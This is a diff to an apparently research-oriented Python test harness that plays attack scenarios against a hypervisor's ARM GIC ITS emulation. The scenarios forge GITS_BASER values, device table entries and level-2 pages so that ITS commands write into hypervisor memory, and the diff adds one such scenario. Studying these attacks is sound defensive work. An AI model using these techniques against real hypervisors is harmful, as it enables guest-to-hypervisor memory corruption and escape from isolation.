@@ -8,19 +8,19 @@ from __future__ import annotations
 
 from typing import TYPE_CHECKING, Final
 
-from itsbox.arch.its_commands import INT, MAPTI
+from itsbox.arch.its_commands import DISCARD, INT, INV, MAPTI
 from itsbox.arch.its_registers import GITS_BASER, TABLE_DEVICES, baser_stored_address
 from itsbox.arch.its_tables import DTE, L1_ENTRY_SIZE, L1Entry
 from itsbox.arch.values import FIRST_LPI, PAGE_SIZE, SIZE_64K
 from itsbox.arch.words import high_half, low_half
-from itsbox.host.attacks import EVENT_BITS
+from itsbox.host.attacks import EVENT_BITS, CannotBePlayed, SetUpFails
 
 if TYPE_CHECKING:
     from itsbox.host.attacks import HostileHost
 
 __all__ = [
     "VICTIM_DEVICE", "baser_half_switched", "baser_to_hyp_page", "forged_dte", "forged_level_2",
-    "level_1_to_hyp_page",
+    "level_1_to_hyp_page", "level_2_by_other_commands",
 ]  # fmt: skip
 
 VICTIM_DEVICE: Final = 0x40
@@ -28,13 +28,19 @@ VICTIM_DEVICE: Final = 0x40
 _CRAFTED: Final = FIRST_LPI + 0x155
 
 
+def _device_table(host: HostileHost) -> tuple[int, GITS_BASER]:
+    """(n, value as the host reads it) of the device table's register; without it there is nothing to attack."""
+    found = host.baser(TABLE_DEVICES)
+    if found is None:
+        raise SetUpFails("the registers of the tables cannot be read")
+    return found
+
+
 def baser_to_hyp_page(host: HostileHost) -> None:
     """A1: GITS_BASER of a flat device table names a hypervisor page; MAPD writes an entry there."""
     victim = host.hyp_page(1)
     host.show("The victim: a page of the hypervisor, before.", victim + 8 * VICTIM_DEVICE)
-    found = host.baser(TABLE_DEVICES)
-    if found is None:
-        return
+    found = _device_table(host)
     n, value = found
     flat = value.replace(
         physical_address=baser_stored_address(victim, SIZE_64K), page_size=2, size=0, indirect=0, valid=1
@@ -58,9 +64,7 @@ def baser_to_hyp_page(host: HostileHost) -> None:
 def baser_half_switched(host: HostileHost) -> None:
     """A16: GITS_BASER is changed in halves, while enabled and at once after the ITS was disabled, without waiting."""
     victim = host.hyp_page(2)
-    found = host.baser(TABLE_DEVICES)
-    if found is None:
-        return
+    found = _device_table(host)
     n, value = found
     at = host.gits(GITS_BASER, n)
     forged = value.replace(
@@ -122,6 +126,31 @@ def forged_level_2(host: HostileHost) -> None:
     host.show("The victim, after.", victim)
 
 
+def level_2_by_other_commands(host: HostileHost) -> None:
+    """22: a level-2 page that the host adds, a forged entry in it, is reached by MAPTI, INT, INV and DISCARD, without a MAPD."""
+    victim = host.hyp_page(3)
+    device_id = 4 * host.per_page(TABLE_DEVICES) + 1
+    slot = host.l1_slot(TABLE_DEVICES, device_id)
+    if slot is None:
+        raise CannotBePlayed("the device table has one level")
+    page = host.pages(SIZE_64K // PAGE_SIZE, SIZE_64K)
+    host.say(
+        "Prepare a level-2 page in which device 1 has its translation table in hypervisor memory, and add it to level 1."
+    )
+    host.store(page + DTE.SIZE, DTE.STRUCT.pack(*DTE(valid=1, size=EVENT_BITS, itt_addr=victim).encode()))
+    host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=page, valid=1).encode()))
+    host.say("No MAPD for that range. The commands that a hypervisor lets through unlooked at walk there first.")
+    host.post(
+        MAPTI(device_id=device_id, event_id=0, intid=_CRAFTED, icid=0),
+        INT(device_id=device_id, event_id=0),
+        INV(device_id=device_id, event_id=0),
+        DISCARD(device_id=device_id, event_id=0),
+    )
+    host.say("A message of the device walks there too.")
+    host.msi(device_id, 0)
+    host.show("The victim, after.", victim)
+
+
 def forged_dte(host: HostileHost) -> None:
     """A3: the host edits a device table entry in memory; MAPTI writes a translation entry to where it points."""
     victim = host.hyp_page(5)
@@ -130,7 +159,7 @@ def forged_dte(host: HostileHost) -> None:
     host.map_own(VICTIM_DEVICE + 2)
     at = host.table_entry(TABLE_DEVICES, VICTIM_DEVICE + 2)
     if at is None:
-        return
+        raise SetUpFails("the device's entry cannot be found")
     host.say("Edit the entry: ITT_base is now the hypervisor's page (the Arm manual calls that UNPREDICTABLE).")
     entry = DTE(valid=1, size=EVENT_BITS, itt_addr=victim)
     host.store(at, DTE.STRUCT.pack(*entry.encode()))
